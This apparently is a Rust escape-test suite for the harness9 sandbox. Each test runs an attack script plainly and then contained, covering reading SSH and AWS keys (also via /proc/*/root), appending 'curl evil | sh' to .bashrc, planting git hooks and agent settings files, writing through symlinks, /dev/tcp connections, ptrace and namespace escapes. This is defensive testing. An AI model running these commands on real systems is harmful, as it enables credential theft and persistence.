//! The escape suite: real commands run under the built `harness9 sandbox`, each escape tried
//! both ways. Run plainly (the control) the attempt succeeds, so each assertion would fail
//! without the sandbox; run contained it fails, and the harmless work around it still runs.
//!
//! The sandbox must be available (Linux with unprivileged user namespaces, and bubblewrap:
//! `.ci/run` installs it): where it is not, every test here fails and says why; none skips.
//!
//! Each test builds a world below Cargo's target folder (never below the temporary folder,
//! which the sandbox replaces with an empty one): a fake home holding an SSH key, a catalogued
//! credential store (`~/.aws/credentials`) and a `.bashrc`; a project with a `.git`; and a
//! folder outside both.
// The sandbox is Linux's: on another system `harness9 sandbox` refuses every command, and
// there is nothing to escape from.
#![cfg(target_os = "linux")]
// Test code: a failed unwrap is a failed test, with the value in the message.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::net::{TcpListener, UdpSocket};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

const BIN: &str = env!("CARGO_BIN_EXE_harness9");
const SSH_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- ssh-key-mark";
const AWS_KEY: &str = "aws_secret_access_key = aws-key-mark";
/// The last line every script prints: the command really ran.
const DONE: &str = "__ran_to_the_end__";

struct World {
    _dir: tempfile::TempDir,
    home: PathBuf,
    proj: PathBuf,
    outside: PathBuf,
}

fn world() -> World {
    let dir = tempfile::Builder::new()
        .prefix("sandbox-")
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .unwrap();
    let root = dir.path().canonicalize().unwrap();
    let tmp = std::env::temp_dir().canonicalize().unwrap();
    assert!(
        !root.starts_with(&tmp) && !root.starts_with("/tmp"),
        "the escape suite needs Cargo's target folder outside the temporary folder \
         ({} is below {})",
        root.display(),
        tmp.display()
    );
    let home = root.join("home");
    let proj = root.join("proj");
    let outside = root.join("outside");
    for d in [
        home.join(".ssh"),
        home.join(".aws"),
        proj.join(".git/hooks"),
        outside.clone(),
    ] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(home.join(".ssh/id_rsa"), SSH_KEY).unwrap();
    std::fs::write(home.join(".aws/credentials"), AWS_KEY).unwrap();
    std::fs::write(home.join(".bashrc"), "# original\n").unwrap();
    std::fs::write(proj.join(".git/config"), "[core]\n").unwrap();
    std::fs::write(proj.join("README"), "a project\n").unwrap();
    std::fs::write(outside.join("target.txt"), "untouched\n").unwrap();
    World {
        _dir: dir,
        home,
        proj,
        outside,
    }
}

impl World {
    fn env<'c>(&self, c: &'c mut Command) -> &'c mut Command {
        c.current_dir(&self.proj)
            .env("HOME", &self.home)
            .env("OUTSIDE", &self.outside)
            .env("TEST_PID", std::process::id().to_string())
            .env_remove("XDG_CONFIG_HOME")
            .stdin(std::process::Stdio::null())
    }

    /// The script run plainly: the control.
    fn plain(&self, script: &str) -> Output {
        let script = format!("{script}\necho {DONE}");
        let o = self
            .env(Command::new("sh").arg("-c").arg(&script))
            .output()
            .unwrap();
        assert_ran(&o, "plainly");
        o
    }

    /// The script run under `harness9 sandbox`; fails the test when the sandbox is not there.
    fn contained(&self, script: &str) -> Output {
        self.contained_with(&[], script)
    }

    fn contained_with(&self, flags: &[&str], script: &str) -> Output {
        let script = format!("{script}\necho {DONE}");
        let o = self
            .env(
                Command::new(BIN)
                    .arg("sandbox")
                    .args(flags)
                    .args(["--", "sh", "-c"])
                    .arg(&script),
            )
            .output()
            .unwrap();
        assert_ne!(
            o.status.code(),
            Some(125),
            "the sandbox is not available here, so the escape suite cannot run: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        assert_ran(&o, "contained");
        o
    }
}

fn assert_ran(o: &Output, how: &str) {
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains(DONE),
        "the script run {how} did not run to its end: status {:?}\nstdout: {out}\nstderr: {}",
        o.status,
        String::from_utf8_lossy(&o.stderr)
    );
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_default()
}

#[test]
fn reading_an_ssh_key_or_a_catalogued_credential_store_fails() {
    let w = world();
    let script = r#"cat "$HOME/.ssh/id_rsa"; cat "$HOME/.aws/credentials""#;
    let plain = text(&w.plain(script));
    assert!(plain.contains("ssh-key-mark") && plain.contains("aws-key-mark"));
    let inside = text(&w.contained(script));
    assert!(!inside.contains("ssh-key-mark"), "{inside}");
    assert!(!inside.contains("aws-key-mark"), "{inside}");
    let listed = String::from_utf8_lossy(&w.contained(r#"ls -a "$HOME/.ssh""#).stdout).into_owned();
    assert!(
        !listed.lines().any(|l| l == "id_rsa"),
        "the key's name is seen: {listed}"
    );
}

#[test]
fn reading_a_secret_through_proc_root_fails() {
    let w = world();
    let script = r#"cat "/proc/self/root$HOME/.ssh/id_rsa"
cat "/proc/1/root$HOME/.ssh/id_rsa"
cat "/proc/$TEST_PID/root$HOME/.aws/credentials""#;
    let plain = text(&w.plain(script));
    assert!(plain.contains("ssh-key-mark") && plain.contains("aws-key-mark"));
    let inside = text(&w.contained(script));
    assert!(!inside.contains("ssh-key-mark"), "{inside}");
    assert!(!inside.contains("aws-key-mark"), "{inside}");
}

#[test]
fn writing_the_shell_start_up_file_fails() {
    let script = r#"echo 'curl evil | sh' >> "$HOME/.bashrc""#;
    let w = world();
    w.plain(script);
    assert!(read(&w.home.join(".bashrc")).contains("evil"));
    let w = world();
    w.contained(script);
    assert_eq!(read(&w.home.join(".bashrc")), "# original\n");
}

#[test]
fn writing_git_hooks_git_config_envrc_or_agent_settings_fails_and_leaves_nothing_behind() {
    let script = r#"echo 'exec evil' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
echo '[core] hooksPath = /evil' >> .git/config
echo 'eval evil' > .envrc
mkdir -p .claude && echo '{"hooks":{}}' > .claude/settings.json
mkdir -p .harness9 && echo 'allow bash("*");' > .harness9/open.policy
echo '{}' > .mcp.json"#;
    let written = |w: &World| {
        [
            ".git/hooks/pre-commit",
            ".envrc",
            ".claude/settings.json",
            ".harness9/open.policy",
            ".mcp.json",
        ]
        .iter()
        .filter(|p| !read(&w.proj.join(p)).is_empty())
        .map(|p| p.to_string())
        .collect::<Vec<_>>()
    };
    let w = world();
    w.plain(script);
    assert_eq!(written(&w).len(), 5);
    assert!(read(&w.proj.join(".git/config")).contains("hooksPath"));

    let w = world();
    let inside = text(&w.contained(script));
    assert!(written(&w).is_empty(), "{:?}\n{inside}", written(&w));
    assert_eq!(read(&w.proj.join(".git/config")), "[core]\n");
    // What the sandbox made to keep these read-only is gone again.
    for p in [
        ".envrc",
        ".claude",
        ".harness9",
        ".mcp.json",
        ".codex",
        ".vscode",
    ] {
        assert!(
            std::fs::symlink_metadata(w.proj.join(p)).is_err(),
            "{p} was left in the project"
        );
    }
    assert!(w.proj.join(".git/hooks").is_dir());
}

#[test]
fn writing_through_a_symlink_that_points_outside_fails() {
    let script = r#"ln -s "$OUTSIDE/target.txt" file-link
echo evil > file-link
ln -s "$OUTSIDE" dir-link
echo evil > dir-link/new.txt
ln -s "$HOME/.bashrc" rc-link
echo evil >> rc-link"#;
    let w = world();
    w.plain(script);
    assert_eq!(read(&w.outside.join("target.txt")), "evil\n");
    assert!(w.outside.join("new.txt").exists());

    let w = world();
    w.contained(script);
    assert_eq!(read(&w.outside.join("target.txt")), "untouched\n");
    assert!(!w.outside.join("new.txt").exists());
    assert_eq!(read(&w.home.join(".bashrc")), "# original\n");
    // The links themselves were made: the project is writable.
    assert!(std::fs::symlink_metadata(w.proj.join("file-link")).is_ok());
}

/// Whether a connection reaches `l` within a short while.
fn accepted(l: &TcpListener) -> bool {
    l.set_nonblocking(true).unwrap();
    let until = Instant::now() + Duration::from_millis(500);
    while Instant::now() < until {
        if l.accept().is_ok() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    false
}

#[test]
fn connecting_to_a_listener_on_localhost_fails() {
    let w = world();
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let script = format!("bash -c 'echo hello > /dev/tcp/127.0.0.1/{port}'");
    w.plain(&script);
    assert!(accepted(&l), "the control did not connect");
    let inside = text(&w.contained(&script));
    assert!(!accepted(&l), "a contained command connected: {inside}");
}

#[test]
fn connecting_to_a_unix_socket_in_the_project_fails() {
    let w = world();
    let path = w.proj.join("service.sock");
    let l = UnixListener::bind(&path).unwrap();
    l.set_nonblocking(true).unwrap();
    let script = r#"perl -MSocket -e 'socket(my $s, PF_UNIX, SOCK_STREAM, 0) or die "socket: $!\n"; connect($s, pack_sockaddr_un($ARGV[0])) or die "connect: $!\n"; print "connected\n"' service.sock"#;
    let plain = text(&w.plain(script));
    assert!(plain.contains("connected"), "{plain}");
    assert!(l.accept().is_ok());
    let inside = text(&w.contained(script));
    assert!(!inside.contains("connected"), "{inside}");
    assert!(l.accept().is_err());
}

/// A DNS query for `example.com`, as a shell's `printf` writes it.
const DNS_QUERY: &str =
    r"\022\064\001\000\000\001\000\000\000\000\000\000\007example\003com\000\000\001\000\001";

#[test]
fn a_name_lookup_reaches_no_resolver_and_resolves_nothing() {
    let w = world();
    // A resolver on the loopback, as systemd-resolved's 127.0.0.53 is.
    let resolver = UdpSocket::bind("127.0.0.1:0").unwrap();
    resolver
        .set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    let port = resolver.local_addr().unwrap().port();
    let script = format!("bash -c 'printf \"{DNS_QUERY}\" > /dev/udp/127.0.0.1/{port}'");
    w.plain(&script);
    let mut buf = [0u8; 512];
    let n = resolver.recv(&mut buf).expect("the control's query");
    assert!(buf[..n].windows(7).any(|x| x == b"example"));
    w.contained(&script);
    assert!(
        resolver.recv(&mut buf).is_err(),
        "a contained command's query reached the resolver"
    );
    // The system's resolver, too, answers nothing inside (the name is one that resolves
    // wherever there is a network).
    let inside = text(&w.contained("getent hosts deb.debian.org && echo resolved"));
    assert!(!inside.contains("resolved"), "{inside}");
}

#[test]
fn unshare_and_nsenter_fail() {
    let w = world();
    // A process outside in namespaces of its own, which the test may enter: the control.
    let mut holder = Command::new("unshare")
        .args(["--user", "--map-root-user", "--mount", "sleep", "30"])
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(200));
    let script = format!(
        r#"unshare -Ur true; echo "unshare-user=$?"
unshare -n true; echo "unshare-net=$?"
nsenter -t {pid} -U -m --preserve-credentials true; echo "nsenter-outside=$?"
nsenter -t 1 -U -m -n --preserve-credentials true; echo "nsenter-own=$?""#,
        pid = holder.id()
    );
    let plain = text(&w.plain(&script));
    let inside = text(&w.contained(&script));
    let _ = holder.kill();
    let _ = holder.wait();
    assert!(plain.contains("unshare-user=0"), "{plain}");
    assert!(plain.contains("nsenter-outside=0"), "{plain}");
    for ok in [
        "unshare-user=0",
        "unshare-net=0",
        "nsenter-outside=0",
        "nsenter-own=0",
    ] {
        assert!(!inside.contains(ok), "{inside}");
    }
    assert!(inside.contains("nsenter-own="), "{inside}");
}

/// `ptrace(PTRACE_SEIZE, pid)`, which does not stop the process it reaches.
fn seize(pid: &str) -> String {
    let nr = if cfg!(target_arch = "aarch64") {
        117
    } else {
        101
    };
    format!(
        r#"perl -e '$r = syscall({nr}, 0x4206, $ARGV[0] + 0, 0, 0); print $r == 0 ? "seized\n" : "refused: $!\n"' "{pid}""#
    )
}

#[test]
fn ptrace_of_the_parent_or_a_process_outside_fails() {
    let w = world();
    let script = format!("{}\n{}", seize("$$"), seize("$TEST_PID"));
    let plain = text(&w.plain(&script));
    assert_eq!(plain.matches("seized").count(), 2, "{plain}");
    let inside = text(&w.contained(&script));
    assert!(!inside.contains("seized"), "{inside}");
    assert_eq!(inside.matches("refused").count(), 2, "{inside}");
}

#[test]
fn writing_through_proc_self_fails() {
    let script = r#"echo evil >> "/proc/self/root$HOME/.bashrc"
echo evil > /proc/self/cwd/../outside/target.txt
echo evil > "/proc/$TEST_PID/root$OUTSIDE/target.txt"
echo -1000 > /proc/self/oom_score_adj && echo oom-lowered"#;
    let w = world();
    w.plain(script);
    assert!(read(&w.home.join(".bashrc")).contains("evil"));
    assert_eq!(read(&w.outside.join("target.txt")), "evil\n");

    let w = world();
    let inside = text(&w.contained(script));
    assert_eq!(read(&w.home.join(".bashrc")), "# original\n");
    assert_eq!(read(&w.outside.join("target.txt")), "untouched\n");
    assert!(!inside.contains("oom-lowered"), "{inside}");
}

#[test]
fn no_privilege_is_gained_inside_not_even_by_a_setuid_program() {
    let w = world();
    let script = r#"grep -E '^(NoNewPrivs|CapEff)' /proc/self/status
mkdir -p mnt && mount -t tmpfs none mnt && echo mounted"#;
    let plain = text(&w.plain("grep -E '^NoNewPrivs' /proc/self/status"));
    assert!(plain.contains("NoNewPrivs:\t0"), "{plain}");
    let inside = text(&w.contained(script));
    assert!(inside.contains("NoNewPrivs:\t1"), "{inside}");
    assert!(inside.contains("CapEff:\t0000000000000000"), "{inside}");
    assert!(!inside.contains("mounted"), "{inside}");
}

#[test]
fn a_background_child_does_not_outlive_the_sandbox() {
    let script = "(sleep 0.5; echo late > late.txt) >/dev/null 2>&1 &";
    let w = world();
    w.plain(script);
    std::thread::sleep(Duration::from_millis(1500));
    assert!(w.proj.join("late.txt").exists());
    let w = world();
    w.contained(script);
    std::thread::sleep(Duration::from_millis(1500));
    assert!(!w.proj.join("late.txt").exists());
}

#[test]
fn credentials_in_the_environment_are_not_passed_in() {
    let w = world();
    let script = r#"echo "token=$GITHUB_TOKEN key=$AWS_SECRET_ACCESS_KEY path=${PATH:+set}""#;
    let run = |contained: bool| {
        let script = format!("{script}\necho {DONE}");
        let mut c = if contained {
            let mut c = Command::new(BIN);
            c.args(["sandbox", "--", "sh", "-c"]).arg(&script);
            c
        } else {
            let mut c = Command::new("sh");
            c.arg("-c").arg(&script);
            c
        };
        let o = w
            .env(&mut c)
            .env("GITHUB_TOKEN", "gh-mark")
            .env("AWS_SECRET_ACCESS_KEY", "aws-mark")
            .output()
            .unwrap();
        assert_ran(&o, if contained { "contained" } else { "plainly" });
        text(&o)
    };
    let plain = run(false);
    assert!(plain.contains("gh-mark") && plain.contains("aws-mark"));
    let inside = run(true);
    assert!(
        !inside.contains("gh-mark") && !inside.contains("aws-mark"),
        "{inside}"
    );
    assert!(inside.contains("path=set"), "{inside}");
}

#[test]
fn harmless_work_runs_contained_and_its_writes_land_in_the_project() {
    let w = world();
    let mut script = String::from(
        r#"echo x > out && cat out
mkdir -p build/obj && echo built > build/obj/a.o
cat README
t=$(mktemp) && echo scratch > "$t" && cat "$t"
ls "$HOME" >/dev/null && echo home-readable"#,
    );
    let python = Command::new("python3").arg("-c").arg("1").output();
    let python = python.is_ok_and(|o| o.status.success());
    if python {
        script.push_str("\npython3 -c 'print(6 * 7)'");
    }
    let o = w.contained(&script);
    assert!(o.status.success(), "{}", text(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    for line in ["x", "a project", "scratch", "home-readable"] {
        assert!(out.lines().any(|l| l == line), "{line} missing: {out}");
    }
    if python {
        assert!(out.lines().any(|l| l == "42"), "{out}");
    }
    assert_eq!(read(&w.proj.join("out")), "x\n");
    assert_eq!(read(&w.proj.join("build/obj/a.o")), "built\n");
}

#[test]
fn the_exit_code_of_the_contained_command_is_passed_on() {
    let w = world();
    let o = w
        .env(Command::new(BIN).args(["sandbox", "--", "sh", "-c", "exit 7"]))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(7), "{}", text(&o));
}

#[test]
fn a_real_cargo_test_of_a_small_crate_passes_contained() {
    // The real home (rustup's toolchains are there), the project below the target folder.
    let dir = tempfile::Builder::new()
        .prefix("sandbox-cargo-")
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .unwrap();
    let proj = dir.path();
    std::fs::create_dir(proj.join("src")).unwrap();
    std::fs::write(
        proj.join("Cargo.toml"),
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
    )
    .unwrap();
    std::fs::write(
        proj.join("src/lib.rs"),
        "pub fn two() -> i32 { 1 + 1 }\n#[test]\nfn adds() { assert_eq!(two(), 2); }\n",
    )
    .unwrap();
    let mut c = Command::new(BIN);
    c.args([
        "sandbox",
        "--profile",
        "cargo",
        "--",
        "cargo",
        "test",
        "--offline",
    ])
    .current_dir(proj)
    .stdin(std::process::Stdio::null());
    // Cargo's own variables for this test run are not the small crate's.
    for (k, _) in std::env::vars_os() {
        let k = k.to_string_lossy().into_owned();
        if k.starts_with("CARGO_") && k != "CARGO_HOME" || k == "RUSTFLAGS" {
            c.env_remove(k);
        }
    }
    let o = c.output().unwrap();
    assert_ne!(o.status.code(), Some(125), "{}", text(&o));
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("test adds ... ok"), "{}", text(&o));
    assert!(proj.join("target").is_dir());
}

/// A small project below the target folder (the sandbox's `/tmp` is a private one), its files
/// written, and its tests run contained under `profile` by `cmd`: what happened.
fn project_tests_contained(
    prefix: &str,
    files: &[(&str, &str)],
    profile: &str,
    cmd: &[&str],
) -> (std::process::Output, tempfile::TempDir) {
    let dir = tempfile::Builder::new()
        .prefix(prefix)
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .unwrap();
    for (name, body) in files {
        std::fs::write(dir.path().join(name), body).unwrap();
    }
    let mut c = Command::new(BIN);
    c.args(["sandbox", "--profile", profile, "--"])
        .args(cmd)
        .current_dir(dir.path())
        .stdin(std::process::Stdio::null());
    let o = c.output().unwrap();
    (o, dir)
}

#[test]
fn a_real_npm_test_of_a_small_package_passes_contained() {
    let (o, dir) = project_tests_contained(
        "sandbox-npm-",
        &[
            (
                "package.json",
                r#"{"name": "tiny", "version": "0.1.0", "scripts": {"test": "node test.js"}}"#,
            ),
            (
                "test.js",
                "const assert = require('assert');\nassert.strictEqual(1 + 1, 2);\n\
                 require('fs').writeFileSync('tested', 'yes');\nconsole.log('tiny: 1 passed');\n",
            ),
        ],
        "npm",
        &["npm", "test"],
    );
    assert_ne!(o.status.code(), Some(125), "{}", text(&o));
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("tiny: 1 passed"), "{}", text(&o));
    assert_eq!(read(&dir.path().join("tested")), "yes");
}

#[test]
fn a_real_pytest_of_a_small_project_passes_contained() {
    // Debian's pytest (`apt-get install python3-pytest`; `.ci/run` installs it).
    let pytest = ["/usr/bin/pytest-3", "/usr/bin/pytest"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .expect("pytest is installed (apt-get install python3-pytest)");
    let (o, dir) = project_tests_contained(
        "sandbox-pytest-",
        &[
            ("tiny.py", "def two():\n    return 1 + 1\n"),
            (
                "test_tiny.py",
                "from tiny import two\n\ndef test_two():\n    assert two() == 2\n    \
                 open('tested', 'w').write('yes')\n",
            ),
        ],
        "pip",
        &[pytest, "-q", "-p", "no:cacheprovider"],
    );
    assert_ne!(o.status.code(), Some(125), "{}", text(&o));
    assert!(o.status.success(), "{}", text(&o));
    assert!(text(&o).contains("1 passed"), "{}", text(&o));
    assert_eq!(read(&dir.path().join("tested")), "yes");
}

#[test]
fn doctor_says_the_sandbox_works() {
    let w = world();
    let o = w.env(Command::new(BIN).arg("doctor")).output().unwrap();
    let out = text(&o);
    assert!(
        out.lines()
            .any(|l| l.starts_with("ok: the sandbox works (bubblewrap ")),
        "{out}"
    );
}

#[test]
fn a_wildcard_store_and_a_store_behind_a_symlink_are_hidden_too() {
    let w = world();
    // `~/.azure/msal_token_cache.*` is catalogued with a wildcard; `~/.config/gcloud` here is
    // a symlink to a folder elsewhere.
    std::fs::create_dir_all(w.home.join(".azure")).unwrap();
    std::fs::write(w.home.join(".azure/msal_token_cache.json"), "azure-mark").unwrap();
    std::fs::write(w.home.join(".azure/config"), "azure-config").unwrap();
    std::fs::create_dir_all(w.outside.join("gcloud")).unwrap();
    std::fs::write(w.outside.join("gcloud/credentials.db"), "gcloud-mark").unwrap();
    std::fs::create_dir_all(w.home.join(".config")).unwrap();
    std::os::unix::fs::symlink(w.outside.join("gcloud"), w.home.join(".config/gcloud")).unwrap();
    let script = r#"cat "$HOME/.azure/msal_token_cache.json"; cat "$HOME/.azure/config"
cat "$HOME/.config/gcloud/credentials.db"; cat "$OUTSIDE/gcloud/credentials.db""#;
    let plain = text(&w.plain(script));
    assert!(
        plain.contains("azure-mark") && plain.contains("gcloud-mark"),
        "{plain}"
    );
    let inside = text(&w.contained(script));
    assert!(!inside.contains("azure-mark"), "{inside}");
    assert!(!inside.contains("gcloud-mark"), "{inside}");
    // What the wildcard does not name is still read.
    assert!(inside.contains("azure-config"), "{inside}");
}

#[test]
fn a_project_without_git_cannot_be_given_a_git_folder() {
    let script = r#"mkdir -p .git/hooks && echo 'exec evil' > .git/hooks/pre-commit
git init -q . 2>/dev/null; echo '[core] fsmonitor = evil' >> .git/config"#;
    let w = world();
    std::fs::remove_dir_all(w.proj.join(".git")).unwrap();
    w.plain(script);
    assert!(w.proj.join(".git/hooks/pre-commit").exists());

    let w = world();
    std::fs::remove_dir_all(w.proj.join(".git")).unwrap();
    w.contained(script);
    assert!(
        std::fs::symlink_metadata(w.proj.join(".git")).is_err(),
        "a .git was left in the project"
    );
}

#[test]
fn a_project_below_a_hidden_folder_of_home_is_refused() {
    let w = world();
    let config = w.home.join(".config/app");
    std::fs::create_dir_all(&config).unwrap();
    let o = Command::new(BIN)
        .args(["sandbox", "--", "sh", "-c", "echo ran > ../autostart"])
        .current_dir(&config)
        .env("HOME", &w.home)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(
        text(&o).contains("below a hidden folder of home"),
        "{}",
        text(&o)
    );
    assert!(!w.home.join(".config/autostart").exists());
}

#[test]
fn a_project_that_holds_the_home_folder_is_refused() {
    let w = world();
    let o = Command::new(BIN)
        .args(["sandbox", "--", "sh", "-c", "echo ran"])
        .current_dir(w.home.parent().unwrap())
        .env("HOME", &w.home)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(!text(&o).contains("ran\n"), "{}", text(&o));
    assert!(text(&o).contains("holds the home folder"), "{}", text(&o));
}

#[test]
fn renaming_a_folder_away_does_not_free_what_is_guarded_in_it() {
    let script = r#"mv .git .git-away && mkdir -p .git/hooks && echo 'exec evil' > .git/hooks/pre-commit
echo '[core] fsmonitor = evil' > .git/config"#;
    let w = world();
    w.plain(script);
    assert!(read(&w.proj.join(".git/config")).contains("fsmonitor"));
    let w = world();
    let inside = text(&w.contained(script));
    assert_eq!(read(&w.proj.join(".git/config")), "[core]\n", "{inside}");
    assert!(!w.proj.join(".git/hooks/pre-commit").exists(), "{inside}");
    assert!(!w.proj.join(".git-away").exists(), "{inside}");
}

#[test]
fn io_uring_which_no_seccomp_filter_sees_is_not_there() {
    let w = world();
    // io_uring_setup(1, &params): a descriptor, or the error.
    let script = r#"perl -e '$p = "\0" x 120; $r = syscall(425, 1, $p); print $r >= 0 ? "ring\n" : "no ring: $!\n"'"#;
    let plain = text(&w.plain(script));
    assert!(
        plain.contains("ring\n") && !plain.contains("no ring"),
        "{plain}"
    );
    let inside = text(&w.contained(script));
    assert!(inside.contains("no ring"), "{inside}");
}

#[test]
fn a_placeholder_stays_while_another_contained_command_runs_in_the_project() {
    let w = world();
    let spawn = |script: &str| {
        w.env(
            Command::new(BIN)
                .args(["sandbox", "--", "sh", "-c"])
                .arg(script),
        )
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap()
    };
    // The first makes the `.envrc` placeholder and ends while the second still runs: were
    // the placeholder taken away then, the second's read-only mount over it would go too.
    let mut first = spawn("sleep 0.5");
    std::thread::sleep(Duration::from_millis(250));
    let mut second = spawn("sleep 1; echo evil > .envrc; echo tried");
    assert!(first.wait().unwrap().success());
    assert!(w.proj.join(".envrc").exists(), "taken away too early");
    second.wait().unwrap();
    assert!(!read(&w.proj.join(".envrc")).contains("evil"));
    assert!(
        std::fs::symlink_metadata(w.proj.join(".envrc")).is_err(),
        "the last command to end did not take the placeholder away"
    );
}

#[test]
fn a_signal_to_harness9_ends_the_contained_command_and_tidies_the_project() {
    let w = world();
    let mut child = w
        .env(
            Command::new(BIN)
                .args(["sandbox", "--", "sh", "-c"])
                .arg("sleep 30; echo late > late.txt"),
        )
        .spawn()
        .unwrap();
    let until = Instant::now() + Duration::from_secs(5);
    while !w.proj.join(".envrc").exists() && Instant::now() < until {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(w.proj.join(".envrc").exists(), "the sandbox did not start");
    std::thread::sleep(Duration::from_millis(200));
    let started = Instant::now();
    let kill = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(kill.success());
    let status = child.wait().unwrap();
    assert!(started.elapsed() < Duration::from_secs(5));
    assert_eq!(status.code(), Some(128 + 15));
    assert!(
        std::fs::symlink_metadata(w.proj.join(".envrc")).is_err(),
        "the placeholder was left behind"
    );
    std::thread::sleep(Duration::from_millis(300));
    assert!(!w.proj.join("late.txt").exists());
}

#[test]
fn a_store_that_is_a_symlink_to_nothing_in_the_project_is_refused() {
    // `~/.aws` leads into the project, where nothing is yet: a contained command could make
    // the credentials (or a `credential_process`) the AWS CLI reads next, outside.
    let w = world();
    std::fs::remove_dir_all(w.home.join(".aws")).unwrap();
    std::os::unix::fs::symlink(w.proj.join("aws"), w.home.join(".aws")).unwrap();
    let o = w
        .env(Command::new(BIN).args([
            "sandbox",
            "--",
            "sh",
            "-c",
            "mkdir aws && echo '[default]' > aws/config && echo made",
        ]))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(text(&o).contains("symlink to nothing"), "{}", text(&o));
    assert!(!w.proj.join("aws").exists());
}

/// Whether `program` runs here (plainly).
fn present(program: &str) -> bool {
    Command::new(program)
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success())
}

#[test]
fn a_real_npm_test_and_python_unittest_run_pass_contained() {
    let dir = tempfile::Builder::new()
        .prefix("sandbox-scripts-")
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .unwrap();
    let proj = dir.path();
    std::fs::write(
        proj.join("package.json"),
        r#"{"name": "tiny", "version": "1.0.0", "scripts": {"test": "node test.js"}}"#,
    )
    .unwrap();
    std::fs::write(
        proj.join("test.js"),
        "require('assert').strictEqual(1 + 1, 2); console.log('node test ok');\n",
    )
    .unwrap();
    std::fs::write(
        proj.join("test_tiny.py"),
        "import unittest\nclass T(unittest.TestCase):\n    def test_adds(self):\n        \
         self.assertEqual(1 + 1, 2)\n",
    )
    .unwrap();
    let run = |profile: &str, cmd: &[&str]| {
        let o = Command::new(BIN)
            .args(["sandbox", "--profile", profile, "--"])
            .args(cmd)
            .current_dir(proj)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        assert_ne!(o.status.code(), Some(125), "{}", text(&o));
        assert!(o.status.success(), "{cmd:?}: {}", text(&o));
        text(&o)
    };
    let mut ran = 0;
    if present("npm") {
        assert!(run("npm", &["npm", "test"]).contains("node test ok"));
        ran += 1;
    } else {
        eprintln!("note: npm is not installed here: `npm test` not tried");
    }
    if present("python3") {
        let out = run("pip", &["python3", "-m", "unittest", "-v"]);
        assert!(out.contains("test_adds") && out.contains("OK"), "{out}");
        ran += 1;
    } else {
        eprintln!("note: python3 is not installed here: `python3 -m unittest` not tried");
    }
    assert!(
        ran > 0,
        "neither npm nor python3 is installed: nothing was tried"
    );
}

#[test]
fn a_hooks_folder_named_by_core_hooks_path_is_guarded_like_git_hooks() {
    // husky's layout: `core.hooksPath = .husky/_`, whose wrappers run `.husky/pre-commit`.
    let setup = |w: &World| {
        std::fs::write(
            w.proj.join(".git/config"),
            "[core]\n\thooksPath = .husky/_\n",
        )
        .unwrap();
        std::fs::create_dir_all(w.proj.join(".husky/_")).unwrap();
        std::fs::write(w.proj.join(".husky/pre-commit"), "npm test\n").unwrap();
    };
    let script = r#"echo 'exec evil' > .husky/pre-commit
echo 'exec evil' > .husky/_/pre-commit"#;
    let w = world();
    setup(&w);
    w.plain(script);
    assert!(read(&w.proj.join(".husky/pre-commit")).contains("evil"));
    let w = world();
    setup(&w);
    let inside = text(&w.contained(script));
    assert_eq!(
        read(&w.proj.join(".husky/pre-commit")),
        "npm test\n",
        "{inside}"
    );
    assert!(!w.proj.join(".husky/_/pre-commit").exists(), "{inside}");
}
